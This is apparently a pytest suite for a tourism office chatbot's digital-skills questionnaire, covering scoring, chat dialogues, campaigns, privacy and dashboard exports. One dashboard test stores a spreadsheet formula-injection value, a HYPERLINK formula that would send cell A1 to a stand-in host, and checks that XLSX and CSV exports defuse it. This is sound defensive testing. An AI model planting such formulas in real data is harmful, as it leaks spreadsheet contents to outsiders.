"""Le diagnostic numérique: the questionnaire file, scoring, the chat flow, campaigns, privacy, the observatory."""

from __future__ import annotations

import csv
import io
import json
import warnings
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from starlette.exceptions import StarletteDeprecationWarning

from bot import privacy
from bot.bootstrap import App, bootstrap
from bot.clock import ManualClock
from bot.config import SHIPPED_QUESTIONNAIRE, Config, ConfigError, DiagnosticConfig
from bot.diagnostic import check, scoring
from bot.diagnostic.questionnaire import QuestionnaireError, load_questionnaire
from bot.faq.loader import load_base
from bot.membership import person_by_slug
from bot.storage.tables import DiagnosticAction, DiagnosticAnswer, DiagnosticRun, Person

from .conftest import ROOT
from .helpers import plain, say
from .test_web import log_in, web_config

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

from bot.web import build_app

MINI = """
title: Mini
axes:
  - {id: visibilite, label: Visibilité}
  - {id: securite, label: Sécurité}
questions:
  - id: fiche
    axis: visibilite
    text: Fiche Google ?
    answers:
      - {id: oui, label: Oui, points: 2}
      - {id: non, label: Non, points: 0}
    action: Revendiquer la fiche
    figure: {label: ont une fiche, answers: [oui]}
  - id: site
    axis: visibilite
    text: Site mobile ?
    answers:
      - {id: oui, label: Oui, points: 2}
      - {id: non, label: Non, points: 0}
      - {id: na, label: Pas de site, na: true}
    action: Rendre le site mobile
  - id: mdp
    axis: securite
    text: Double authentification ?
    answers:
      - {id: oui, label: Oui, points: 3}
      - {id: partiel, label: En partie, points: {securite: 1, visibilite: 1}}
      - {id: non, label: Non, points: 0}
    action: Activer la double authentification
"""


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- the file -------------------------------------------------------------------------------------------


def test_the_shipped_questionnaire_is_valid_and_its_tutorials_exist_in_the_base() -> None:
    base = load_base([ROOT / "faq"])
    assert check([str(SHIPPED_QUESTIONNAIRE)], {e.id for e in base.entries}) == []
    q = load_questionnaire([SHIPPED_QUESTIONNAIRE])
    assert 14 <= len(q.questions) <= 18  # about five minutes on a phone
    assert {q.axis(question.axis) is not None for question in q.questions} == {True}
    for question in q.questions:
        assert all(len(a.label) <= 40 for a in question.answers), question.id  # a button on a phone


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (MINI.replace("axis: securite", "axis: secu"), "question mdp, champ « axis » : axe « secu » non déclaré"),
        (MINI.replace("points: 3", "points: -3"), "question mdp, champ « answers[0].points »"),
        (
            MINI.replace(
                "{id: non, label: Non, points: 0}\n    action: Activer",
                "{id: oui, label: Re, points: 0}\n    action: Activer",
            ),
            "question mdp, champ « answers » : réponse « oui » en double",
        ),
        (
            MINI.replace("action: Rendre le site mobile", "action: Rendre le site mobile\n    colour: red"),
            "question site, champ « colour »",
        ),
        (MINI.replace("answers: [oui]", "answers: [peut-etre]"), "champ « figure.answers » : réponse « peut-etre »"),
        (MINI.replace("title: Mini", "title: Mini\ntitle: Maxi"), "clé « title » en double"),
        (MINI.replace("text: Fiche Google ?", "text: ''"), "question fiche, champ « text »"),
    ],
)
def test_a_broken_questionnaire_names_the_file_the_question_and_the_field(
    tmp_path: Path, text: str, expected: str
) -> None:
    path = write(tmp_path, "q.yml", text)
    with pytest.raises(QuestionnaireError) as err:
        load_questionnaire([path])
    assert expected in str(err.value)


def test_unknown_tutorials_are_reported_against_the_base(tmp_path: Path) -> None:
    path = write(tmp_path, "q.yml", MINI.replace("action: Revendiquer la fiche", "action: R\n    tutorials: [nope]"))
    assert check([str(path)], {"gbp-creer-revendiquer"}) == [
        "question fiche, champ « tutorials » : tutoriel « nope » absent de la base"
    ]


def test_an_office_layer_replaces_a_question_by_id_and_adds_its_own(tmp_path: Path) -> None:
    territory = write(tmp_path, "territoire.yml", MINI)
    office = write(
        tmp_path,
        "office.yml",
        """
questions:
  - id: fiche
    axis: visibilite
    text: Votre fiche Google est-elle à jour sur le site de l'office ?
    answers:
      - {id: oui, label: Oui, points: 1}
      - {id: non, label: Non, points: 0}
    action: Mettre la fiche à jour
  - id: brochure
    axis: visibilite
    text: Avez-vous déposé vos brochures ?
    answers:
      - {id: oui, label: Oui, points: 1}
      - {id: non, label: Non, points: 0}
    action: Déposer vos brochures à l'accueil
""",
    )
    q = load_questionnaire([territory, office])
    assert [x.id for x in q.questions] == ["fiche", "site", "mdp", "brochure"]
    fiche = q.question("fiche")
    assert fiche is not None and fiche.text.startswith("Votre fiche Google est-elle à jour")


def test_a_broken_questionnaire_refuses_the_start_with_one_clear_error(
    config: Config, database_url: str, tmp_path: Path
) -> None:
    path = write(tmp_path, "q.yml", MINI.replace("axis: securite", "axis: secu"))
    broken = config.model_copy(update={"diagnostic": DiagnosticConfig(files=[str(path)])})
    with pytest.raises(ConfigError, match="axe « secu » non déclaré"):
        bootstrap(broken, database_url=database_url, migrate=False)


# -- scoring --------------------------------------------------------------------------------------------


def test_scores_leave_out_what_does_not_apply_and_count_points_on_several_axes(tmp_path: Path) -> None:
    q = load_questionnaire([write(tmp_path, "q.yml", MINI)])
    # fiche 2/2, site n/a, mdp « en partie » gives 1 on security and 1 on visibility.
    answers = {"fiche": "oui", "site": "na", "mdp": "partiel"}
    assert scoring.scores(q, answers) == {"visibilite": round(100 * 3 / 3), "securite": round(100 * 1 / 3)}
    assert scoring.scores(q, {"fiche": "non", "site": "non", "mdp": "non"}) == {"visibilite": 0, "securite": 0}
    # One action per weak axis first, the weakest axis first.
    top = scoring.priorities(q, {"fiche": "non", "site": "oui", "mdp": "non"}, {"visibilite": 50, "securite": 0})
    assert [g.question.id for g in top] == ["mdp", "fiche"]
    assert scoring.is_done(q.questions[1], "na") and not scoring.is_done(q.questions[0], "non")


# -- in chat --------------------------------------------------------------------------------------------


def finish(app: App, who: str, answer_index: int = 0) -> str:
    """Answer every question with the answer at `answer_index` (or the last one when there are fewer)."""
    out = plain(say(app, who, "/diagnostic"))
    for question in app.questionnaire.questions:
        choice = question.answers[min(answer_index, len(question.answers) - 1)]
        out = plain(say(app, who, f"/diag {question.id} {choice.id}"))
    return out


def test_a_provider_stops_resumes_after_a_restart_and_gets_a_profile_and_a_plan(
    app: App, config: Config, clock: ManualClock, database_url: str
) -> None:
    first = plain(say(app, "gite-du-moulin", "/diagnostic"))
    assert "Question 1/16" in first
    assert "Question 2/16" in plain(say(app, "gite-du-moulin", "3"))  # a typed answer number
    assert "entre 1 et 3" in plain(say(app, "gite-du-moulin", "7"))
    # A tutorial question in the middle is answered by the base, and the diagnostic waits.
    assert "Utile ?" in plain(say(app, "gite-du-moulin", "Comment répondre à un avis négatif sur Google ?"))
    assert "en pause" in plain(say(app, "gite-du-moulin", "/diagnostic pause"))
    again = bootstrap(config, clock=clock, database_url=database_url, migrate=False)  # a new process
    try:
        resumed = plain(say(again, "gite-du-moulin", "/diagnostic"))
        assert "question 2 sur 16" in resumed
        out = ""
        for question in again.questionnaire.questions[1:]:
            out = plain(say(again, "gite-du-moulin", f"/diag {question.id} {question.answers[-1].id}"))
    finally:
        again.close()
    assert "Diagnostic terminé" in out and "Vos 3 priorités" in out
    assert "/inscrire" not in out or "S'inscrire" in out
    with app.sessions() as db:
        marie = person_by_slug(db, "gite-du-moulin")
        assert marie is not None
        run = db.scalar(select(DiagnosticRun).where(DiagnosticRun.person_id == marie.id))
        assert run is not None and run.completed_at is not None
        assert db.scalar(select(func.count(DiagnosticAnswer.id)).where(DiagnosticAnswer.run_id == run.id)) == 16
        open_actions = db.scalar(select(func.count(DiagnosticAction.id)).where(DiagnosticAction.person_id == marie.id))
    assert open_actions and open_actions >= 3
    assert "à faire" in plain(say(app, "gite-du-moulin", "/plan"))


def test_actions_are_ticked_by_their_owner_only_and_closed_by_the_next_diagnostic(app: App) -> None:
    finish(app, "gite-du-moulin", answer_index=5)  # the weakest answers everywhere
    with app.sessions() as db:
        marie = person_by_slug(db, "gite-du-moulin")
        assert marie is not None
        actions = list(db.scalars(select(DiagnosticAction).where(DiagnosticAction.person_id == marie.id)))
    first = actions[0]
    assert "Je ne trouve pas" in plain(say(app, "camping-les-pins", f"/fait {first.id}"))
    assert "Écrivez le numéro" in plain(say(app, "camping-les-pins", "/fait 99999999999999999999999"))
    assert "cochée" in plain(say(app, "gite-du-moulin", f"/fait {first.id}"))
    # The next diagnostic, at its best everywhere: every action is done, seen by the diagnostic.
    assert "déjà fait" in plain(say(app, "gite-du-moulin", "/diagnostic"))
    say(app, "gite-du-moulin", "/diagnostic refaire")
    for question in app.questionnaire.questions:
        say(app, "gite-du-moulin", f"/diag {question.id} {question.answers[0].id}")
    with app.sessions() as db:
        statuses = {a.id: (a.status, a.done_how) for a in db.scalars(select(DiagnosticAction))}
    assert statuses[first.id] == ("done", "ticked")
    assert {s for s, _ in statuses.values()} == {"done"}
    assert {h for _, h in statuses.values()} == {"ticked", "diagnostic"}


def test_an_answer_button_needs_a_diagnostic_in_progress_and_a_real_answer(app: App) -> None:
    assert "pas de diagnostic en cours" in plain(say(app, "gite-du-moulin", "/diag fiche-google oui"))
    say(app, "gite-du-moulin", "/diagnostic")
    assert "aucune question" in plain(say(app, "gite-du-moulin", "/diag fiche-google peut-etre"))
    assert "aucune question" in plain(say(app, "gite-du-moulin", "/diag"))


def test_typed_in_the_group_the_questionnaire_goes_private(app: App) -> None:
    replies = say(app, "gite-du-moulin", "/diagnostic", chat="prestataires")
    assert replies and all(r.private for r in replies)


def test_a_campaign_to_one_category_and_its_single_reminder_a_week_later(app: App, clock: ManualClock) -> None:
    assert "Je ne connais pas la catégorie" in plain(say(app, "camille-ant", "/campagne bateaux", chat="equipe"))
    assert "réservée" in plain(say(app, "gite-du-moulin", "/campagne", chat="prestataires"))
    app.outbox.drain("console")
    one = plain(say(app, "camille-ant", "/campagne Restaurants", chat="equipe"))  # case and plural do not matter
    assert "à 1 prestataire(s) sur 1 (la catégorie « restaurant »)" in one
    assert [m.chat.chat_id for m in app.outbox.drain("console") if m.chat.private] == ["auberge-de-la-source"]
    finish(app, "gite-du-moulin")
    sent = plain(say(app, "camille-ant", "/campagne", chat="equipe"))
    assert "à 4 prestataire(s) sur 5" in sent  # who finished this year is not asked again
    finish(app, "camping-les-pins")
    app.outbox.drain("console")
    clock.advance(timedelta(days=6, hours=23))
    app.tick()
    assert not [m for m in app.outbox.drain("console") if m.chat.private]
    clock.advance(timedelta(hours=2))
    app.tick()
    app.tick()  # a second tick (or a second instance) sends nothing more
    reminded = app.outbox.drain("console")
    private = sorted(m.chat.chat_id for m in reminded if m.chat.private)
    # Both campaigns are due; the later one covers the first one's restaurant: one reminder each.
    assert private == ["auberge-de-la-source", "canoe-aventure", "hotel-du-lac"]
    team = [m.reply.text for m in reminded if not m.chat.private]
    assert any("3 prestataire(s) n'avaient pas fini" in text for text in team)
    assert "Aucune campagne" in plain(say(app, "camille-ant", "/relancer", chat="equipe"))


def test_the_observatory_in_chat_counts_over_those_who_answered(app: App) -> None:
    finish(app, "gite-du-moulin", 0)
    finish(app, "camping-les-pins", 5)
    out = plain(say(app, "julien-accueil", "/observatoire", chat="equipe"))
    assert "2 réponse(s) sur 5 prestataires (40 %)" in out
    assert "50 % sont réservables en ligne (sur 2)" in out
    assert "1 prestataire(s) faibles sur l’axe" in out
    group = say(app, "julien-accueil", "/observatoire", chat="prestataires")
    assert all(r.private for r in group)


def test_export_and_forget_include_the_diagnostic(app: App) -> None:
    finish(app, "gite-du-moulin", 1)
    with app.sessions.begin() as db:
        marie = person_by_slug(db, "gite-du-moulin")
        assert marie is not None
        data = json.loads(privacy.export_json(db, marie))
        assert len(data["diagnostics"][0]["réponses"]) == 16 and data["plan d'actions"]
        privacy.forget(db, marie, app.clock.now(), "test")
    with app.sessions() as db:
        assert db.scalar(select(func.count(DiagnosticRun.id))) == 0
        assert db.scalar(select(func.count(DiagnosticAnswer.id))) == 0
        assert db.scalar(select(func.count(DiagnosticAction.id))) == 0


# -- the guided /klub -----------------------------------------------------------------------------------


def test_the_guided_klub_checks_each_step_survives_a_restart_and_creates_like_the_one_line_form(
    app: App, config: Config, clock: ManualClock, database_url: str
) -> None:
    ant = "camille-ant"
    assert "en privé" in plain(say(app, ant, "/klub", chat="equipe"))
    assert "Quel type" in plain(say(app, ant, "/klub"))
    assert "Choisissez" in plain(say(app, ant, "/etape banquet"))
    assert "Quel titre" in plain(say(app, ant, "/etape atelier"))
    assert "Quand" in plain(say(app, ant, "Atelier Canva"))
    assert "Je ne comprends pas" in plain(say(app, ant, "mardi prochain"))
    assert "heure" in plain(say(app, ant, "2026-12-10"))
    again = bootstrap(config, clock=clock, database_url=database_url, migrate=False)
    try:
        assert "Je ne comprends pas l'heure" in plain(say(again, ant, "25h"))
        assert "Où" in plain(say(again, ant, "14h00"))
        assert "Combien de places" in plain(say(again, ant, "Salle 2, office de tourisme"))
        assert "nombre de places entre 1" in plain(say(again, ant, "99999999999"))
        recap = plain(say(again, ant, "10"))
        assert "titre='Atelier Canva'" in recap and "date=2026-12-10" in recap and "places=10" in recap
        created = plain(say(again, ant, "/etape oui"))
    finally:
        again.close()
    assert "Atelier Canva" in created and "10 place(s)" in created
    assert "plus valable" in plain(say(app, ant, "/etape oui"))


def test_the_guided_klub_can_be_abandoned_at_any_step_and_creates_nothing(app: App) -> None:
    ant = "camille-ant"
    say(app, ant, "/klub")
    say(app, ant, "/etape klub")
    say(app, ant, "Klub numérique")
    assert "Quels mois" in plain(say(app, ant, "1er jeudi"))
    assert "abandonné" in plain(say(app, ant, "annuler"))
    # Free text after that is a tutorial question again, not an answer to the dialogue.
    assert "Quel" not in plain(say(app, ant, "Comment renommer ma page Facebook ?"))


# -- the observatory in the dashboard -------------------------------------------------------------------


@pytest.fixture
def wapp(config: Config, clock: ManualClock, database_url: str, tmp_path: Path) -> Iterator[App]:
    cfg = web_config(config, "http://testserver", tmp_path / "faq")
    application = bootstrap(cfg, clock=clock, database_url=database_url, migrate=False)
    yield application
    application.close()


def test_the_dashboard_shows_the_office_table_a_profile_and_exports_without_formulas(wapp: App) -> None:
    with wapp.sessions.begin() as db:
        marie = person_by_slug(db, "gite-du-moulin")
        assert marie is not None
        marie.business = '=HYPERLINK("http://x.example/?"&A1;"clic")'
        marie_id = marie.id
        nadia = person_by_slug(db, "nadia-ant")
        assert nadia is not None
        other_office_person = db.scalar(select(Person).where(Person.office_id == nadia.office_id))
        assert other_office_person is not None
        other_id = other_office_person.id
    finish(wapp, "gite-du-moulin", 1)
    finish(wapp, "camping-les-pins", 0)
    client = TestClient(build_app(wapp, secret=b"s" * 32), follow_redirects=False)
    log_in(client, wapp, "julien-accueil")
    page = client.get("/diagnostic")
    assert page.status_code == 200
    assert "2 / 5" in page.text and "Marie" in page.text
    assert client.get("/diagnostic?sort=ereputation").status_code == 200
    assert client.get("/diagnostic?category=camping").text.count("/diagnostic/people/") == 1
    for bad in ("campaign=1999", "campaign=%C2%B2", "sort=nope", "category=bateaux", "campaign=99999999999999"):
        assert client.get(f"/diagnostic?{bad}").status_code == 400, bad
    profile = client.get(f"/diagnostic/people/{marie_id}")
    assert profile.status_code == 200 and "Plan d" in profile.text
    assert client.get(f"/diagnostic/people/{other_id}").status_code == 403
    assert client.get("/diagnostic/people/99999999999999999999").status_code in (404, 400)
    xlsx = client.get("/diagnostic/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    rows = list(
        csv.reader(io.StringIO(client.get("/diagnostic/export.csv").content.decode("utf-8-sig")), delimiter=";")
    )
    assert len(rows) == 3 and not [v for r in rows for v in r if v[:1] in ("=", "+", "@")]
